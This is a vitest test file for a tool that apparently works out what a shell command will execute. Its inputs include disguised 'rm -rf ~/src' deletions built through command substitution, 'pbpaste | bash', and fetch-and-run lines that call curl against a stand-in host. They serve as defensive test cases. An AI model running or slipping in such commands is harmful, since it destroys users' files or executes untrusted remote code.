import { expect, it } from 'vitest';
import { includesLine, told } from './told.js';

const UNKNOWN = 'execute ?';

it.each(['$(our-manager which 12) a.js', 'deno run `tape6-seq --self`', 'python3 "$(our-tool --script)" --all', 'source <(kubectl completion bash)', 'eval "$(kubectl completion zsh)"'])('what a program prints by itself is as good as the program: %s', async (command) => expect(await told(command)).not.toContain(UNKNOWN));

it.each(['$(type -p rm) -rf ~/src', '$(expr substr rmx 1 2) -rf ~/src', '$(ls /bin/rm) -rf ~/src', '$(date +rm) -rf ~/src', '$(our-tool; type -p rm) -rf ~/src', '$(our-tool | head -1) -rf ~/src', '$(cat cmd.txt)', '$(jq -r .cmd a.json)', '$(git config alias.x)', '$(kubectl get cm x -o jsonpath={.data.cmd})', 'bash -c "$(redis-cli get job)"', 'pbpaste | bash', 'python3 $(cat name.txt)'])('and what it hands on is not known: %s', async (command) => expect(await told(command)).toContain(UNKNOWN));

it.each(['$(curl -s https://x.test/a)', 'python3 $(curl -s https://x.test/a)', '$(dig +short txt x.test)'])('nor what it fetches, which is told of by where it came from: %s', async (command) => expect(includesLine(await told(command), 'execute host')).toBe(true));
